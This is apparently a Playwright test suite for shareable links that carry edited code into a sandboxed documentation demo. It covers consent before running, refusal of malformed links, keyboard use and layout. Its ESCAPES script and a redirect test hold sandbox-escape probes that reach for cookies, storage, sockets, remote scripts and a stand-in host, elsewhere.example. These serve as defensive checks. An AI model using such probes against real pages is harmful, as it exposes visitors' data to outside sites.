"""A link carries what somebody made of a demo: shown, named as theirs, kept from all else."""

from __future__ import annotations

import base64
import zlib

import pytest
from accessibility import find_barriers_day_and_night
from browsing import Direction, Scheme, Windows
from edited_demo import TRIP, Demo, open_demo, write_edit
from playwright.sync_api import Route, expect

pytest_plugins = ["real_site", "ferry_site"]

ESCAPES = """async () => {
  const tries = {
    parent: () => parent.document.title,
    top: () => { top.location.href = 'https://elsewhere.example/'; },
    cookie: () => document.cookie,
    storage: () => { if (!localStorage.getItem('secret')) throw new Error('There is none.'); },
    fetch: () => fetch('/'),
    socket: () => new Promise((open, fail) => {
      const socket = new WebSocket('wss://elsewhere.example/');
      Object.assign(socket, { onopen: open, onerror: fail });
    }),
    script: () => import('https://elsewhere.example/x.js'),
    picture: () => new Promise((load, fail) => {
      const picture = new Image();
      Object.assign(picture, { onload: load, onerror: fail, src: 'https://elsewhere.example/x' });
    }),
    window: () => { if (!open('https://elsewhere.example/')) throw new Error('Refused.'); },
    calls: () => { if (!window.RTCPeerConnection) throw new Error('There is none.'); },
  };
  const escaped = [];
  for (const [name, escape] of Object.entries(tries)) {
    try {
      await escape();
      escaped.push(name);
    } catch {}
  }
  return escaped;
}"""


TALL = """
export default () => (
  <div>
    <p style={{ height: 3000 }}>Tall</p>
    <p style={{ position: 'fixed', inset: '0 0 auto', height: 9000 }}>Covering</p>
  </div>
);
"""

COVERING = """() => {
  const frame = document.querySelector('.sandbox-preview iframe').getBoundingClientRect();
  const others = [...document.querySelectorAll('.edit-linked, .demo-bar, .demo-code')];
  return others
    .map((other) => other.getBoundingClientRect())
    .filter(({ width, top, bottom }) => width > 0 && top >= frame.top && bottom <= frame.bottom)
    .map(({ top }) => top);
}"""


def open_link(ferry: Windows, edit: str, *, width: int = 1280, scheme: Scheme = "light") -> Demo:
    window = ferry.open(f"{TRIP}#Ticket.tsx?edit={edit}", width=width, scheme=scheme)
    return Demo(window, "Ticket")


def run_link(ferry: Windows, code: str, *, width: int = 1280) -> Demo:
    """Open a link with foreign code, and let that run."""
    demo = open_link(ferry, write_edit(("Ticket.tsx", code)), width=width)
    demo.run_edit()
    return demo


def test_a_link_carries_the_change_to_somebody_else(ferry: Windows) -> None:
    demo = open_demo(ferry, "Ticket")
    demo.edit(before=">Pay")
    demo.type(" for Ada")
    expect(demo.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()
    demo.window.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    demo.root.get_by_role("button", name="Copy the link to this demo").click()
    demo.window.page.wait_for_url("**#*edit=*")

    other = Demo(ferry.open(demo.window.page.url.removeprefix(demo.window.address)), "Ticket")

    expect(other.editor).to_contain_text("Pay for Ada")
    expect(other.root.get_by_text("Whoever made this link changed the code")).to_be_visible()
    other.run_edit()

    expect(other.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()


def test_a_linked_change_can_be_taken_back(ferry: Windows) -> None:
    demo = run_link(ferry, "export default () => <p>Other</p>;")
    expect(demo.frame.get_by_text("Other")).to_be_visible()
    demo.notice.get_by_role("button", name="Show the published demo").press("Enter")

    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    expect(demo.notice).to_have_count(0)
    assert "edit=" not in demo.window.page.url
    # What is not seen does not run on, nor beside what the visitor writes next.
    assert demo.frame_addresses() == []


def test_the_short_form_is_not_shown_under_what_it_does_not_say(ferry: Windows) -> None:
    demo = run_link(ferry, "export default () => <p>Other</p>;")
    expect(demo.frame.get_by_text("Other")).to_be_visible()
    preview = demo.root.locator(".demo-preview").first

    demo.root.get_by_role("button", name="Hide code").click()

    expect(demo.editor).to_be_hidden()
    expect(preview).to_be_attached()
    expect(preview).to_be_hidden()


@pytest.mark.parametrize(
    "edit",
    [
        "rubbish",
        write_edit(("Ticket.tsx", "x"))[:-4],
        write_edit(("elsewhere.ts", "x")),
        write_edit(("Ticket.tsx", " " * 300_000)),
        base64.urlsafe_b64encode(zlib.compress(b'{"a": 1}', wbits=-15)).decode().rstrip("="),
    ],
    ids=["noise", "half", "another file", "a bomb", "another shape"],
)
def test_a_link_that_cannot_be_read_is_refused_aloud(ferry: Windows, edit: str) -> None:
    demo = open_link(ferry, edit)

    expect(demo.root.get_by_text("The edit in this link cannot be read")).to_be_visible()
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    expect(demo.root.locator("iframe")).to_have_count(0)


def test_foreign_code_reaches_nothing_of_the_visitors(ferry: Windows) -> None:
    code = f"""
const tries = {ESCAPES};
tries().then((escaped) => {{ document.body.dataset.escaped = escaped.join(); }});
export default () => <p>Harmless</p>;
"""
    demo, reached = open_foreign(ferry, code)

    expect(demo.frame.get_by_text("Harmless")).to_be_visible()
    expect(demo.frame.locator("body")).to_have_attribute("data-escaped", "")
    assert reached == []
    assert demo.window.page.url.startswith(demo.window.address)
    assert "connect-src" in str(ferry.refused)
    ferry.refused.clear()


def test_code_that_leaves_for_another_site_is_stopped(ferry: Windows) -> None:
    leave = "location.href = 'https://elsewhere.example/?secret';"
    demo, reached = open_foreign(ferry, f"{leave} export default () => null;")

    expect(demo.mistake).to_contain_text("The code left its frame")
    assert reached == []
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    ferry.refused.clear()


def open_foreign(ferry: Windows, code: str) -> tuple[Demo, list[str]]:
    """A link with foreign code, and what of another site that code has reached."""
    window = ferry.open()
    reached: list[str] = []

    def note(route: Route) -> None:
        reached.append(route.request.url)
        route.abort()

    window.page.context.route("**://elsewhere.example/**", note)
    window.visit("/")
    window.evaluate("localStorage.setItem('secret', 'kept by the visitor')")
    window.visit(f"{TRIP}#Ticket.tsx?edit={write_edit(('Ticket.tsx', code))}")
    demo = Demo(window, "Ticket")
    demo.run_edit()
    return demo, reached


def test_a_linked_change_runs_only_when_the_visitor_says_so(ferry: Windows) -> None:
    demo = open_link(ferry, write_edit(("Ticket.tsx", "export default () => <p>Other</p>;")))
    expect(demo.editor).to_contain_text("Other")
    expect(demo.notice).to_contain_text("Don’t type anything secret into it")
    demo.editor.click()
    demo.type("// Typed on.\n")
    demo.window.page.wait_for_timeout(500)

    assert demo.frame_addresses() == []
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    demo.run_edit()

    expect(demo.frame.get_by_text("Other")).to_be_visible()
    expect(demo.notice).to_contain_text("This demo runs code from a link")
    assert len(demo.frame_addresses()) == 1


def test_after_a_reload_it_is_asked_again(ferry: Windows) -> None:
    demo = run_link(ferry, "export default () => <p>Other</p>;")
    expect(demo.frame.get_by_text("Other")).to_be_visible()

    demo.window.page.reload()

    expect(demo.notice.get_by_role("button", name="Run this edit")).to_be_visible()
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    assert demo.frame_addresses() == []


def test_another_link_on_the_same_page_asks_anew(ferry: Windows) -> None:
    demo = run_link(ferry, "export default () => <p>Other</p>;")
    expect(demo.frame.get_by_text("Other")).to_be_visible()
    third = write_edit(("Ticket.tsx", "export default () => <p>Third</p>;"))

    demo.window.evaluate(f"location.hash = 'Ticket.tsx?edit={third}'")

    expect(demo.editor).to_contain_text("Third")
    expect(demo.notice.get_by_role("button", name="Run this edit")).to_be_visible()
    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()


def test_what_the_visitor_wrote_runs_at_once_also_by_its_own_link(ferry: Windows) -> None:
    demo = open_demo(ferry, "Ticket")
    demo.edit(before=">Pay")
    demo.type(" for Ada")
    expect(demo.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()
    demo.window.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    demo.root.get_by_role("button", name="Copy the link to this demo").click()
    demo.window.page.wait_for_url("**#*edit=*")

    demo.window.evaluate("dispatchEvent(new HashChangeEvent('hashchange'))")
    demo.window.page.wait_for_timeout(300)

    expect(demo.frame.get_by_role("button", name="Pay for Ada")).to_be_visible()
    expect(demo.notice).to_have_count(0)


def test_in_the_other_language_nothing_is_said_of_it(ferry: Windows) -> None:
    demo = run_link(ferry, "export default () => <p>Other</p>;")
    expect(demo.frame.get_by_text("Other")).to_be_visible()

    demo.choose("JS")
    expect(demo.notice).to_have_count(0)
    demo.choose("TS")

    expect(demo.notice).to_contain_text("This demo runs code from a link")


def test_the_keyboard_runs_it_and_takes_it_back(ferry: Windows) -> None:
    demo = open_link(ferry, write_edit(("Ticket.tsx", "export default () => <p>Other</p>;")))
    back = demo.notice.get_by_role("button", name="Show the published demo")

    demo.notice.get_by_role("button", name="Run this edit").focus()
    demo.keyboard.press("Enter")
    expect(demo.frame.get_by_text("Other")).to_be_visible()
    expect(back).to_be_focused()
    demo.keyboard.press("Enter")

    expect(demo.published.get_by_role("button", name="Pay")).to_be_visible()
    expect(demo.root.locator(".demo-bar :focus")).to_have_count(1)


@pytest.mark.parametrize(("width", "direction"), [(320, "rtl"), (1280, "ltr")])
def test_however_high_it_is_the_page_stays_in_reach(
    ferry: Windows, width: int, direction: Direction
) -> None:
    window = ferry.open(
        f"{TRIP}#Ticket.tsx?edit={write_edit(('Ticket.tsx', TALL))}",
        width=width,
        direction=direction,
    )
    demo = Demo(window, "Ticket")
    expect(demo.notice).to_be_in_viewport(ratio=1)
    expect(demo.published.get_by_role("button", name="Pay")).to_be_in_viewport(ratio=1)
    demo.run_edit()
    expect(demo.frame.get_by_text("Tall")).to_be_visible()

    height = demo.root.locator(".sandbox-preview iframe").evaluate("frame => frame.offsetHeight")
    demo.frame.get_by_text("Tall").evaluate("() => scrollTo(0, 500)")
    demo.root.locator(".demo-bar").scroll_into_view_if_needed()

    assert 200 < height <= 0.6 * 800
    expect(demo.notice).to_be_in_viewport(ratio=1)
    assert window.evaluate(COVERING) == []


@pytest.mark.parametrize("is_run", [False, True])
def test_the_question_is_in_nobodys_way(ferry: Windows, is_run: bool) -> None:
    # Of words in a frame without a ground of its own nobody knows what is behind them.
    edit = write_edit(("Ticket.tsx", "export default () => <hr />;"))
    demo = open_link(ferry, edit)
    expect(demo.notice).to_be_visible()
    if is_run:
        demo.run_edit()
        expect(demo.frame.get_by_role("separator")).to_be_visible()

    assert find_barriers_day_and_night(demo.window) == []


def test_forms_of_a_demo_do_all_they_do_but_lead_away(ferry: Windows) -> None:
    code = """
import * as React from 'react';
export default function Forms() {
  const [sent, setSent] = React.useState([]);
  const send = (event) => {
    event.preventDefault();
    const by = event.nativeEvent.submitter?.value ?? 'no button';
    setSent((before) => [...before, `${new FormData(event.target).get('name')} by ${by}`]);
  };
  const form = React.useRef(null);
  return (
    <React.Fragment>
      <form onSubmit={send} ref={form}>
        <input name="name" aria-label="Name" required />
        <button value="button">Send</button>
      </form>
      <form onSubmit={send}><input name="name" aria-label="Alone" /></form>
      <button onClick={() => form.current.requestSubmit()}>Ask</button>
      <dialog open style={{ position: 'static' }}>
        <form method="dialog"><button value="closed">Close</button></form>
      </dialog>
      <p role="status">{sent.join(', ')}</p>
    </React.Fragment>
  );
}
"""
    demo = run_link(ferry, code)
    status = demo.frame.get_by_role("status")

    demo.frame.get_by_role("button", name="Send").click()
    expect(status).to_have_text("")
    demo.frame.get_by_label("Name").fill("Ada")
    demo.frame.get_by_role("button", name="Send").click()
    demo.frame.get_by_label("Name").press("Enter")
    demo.frame.get_by_label("Alone").fill("Grace")
    demo.frame.get_by_label("Alone").press("Enter")
    demo.frame.get_by_role("button", name="Ask").click()
    demo.frame.get_by_role("button", name="Close").click()

    expect(status).to_have_text(
        "Ada by button, Ada by button, Grace by no button, Ada by no button"
    )
    expect(demo.frame.get_by_role("dialog")).to_be_hidden()
    assert demo.window.troubles == []


def test_links_and_forms_of_a_demo_lead_nowhere(ferry: Windows) -> None:
    code = """
export default () => (
  <form onSubmit={() => { document.body.id = 'sent'; }}>
    <a href="/">Home</a>
    <button>Send</button>
  </form>
);
"""
    demo = run_link(ferry, code)

    demo.frame.get_by_role("link").click()
    demo.frame.get_by_role("button").click()

    expect(demo.frame.locator("body#sent")).to_have_count(1)
    expect(demo.frame.get_by_role("button")).to_be_visible()
    expect(demo.mistake).to_have_count(0)
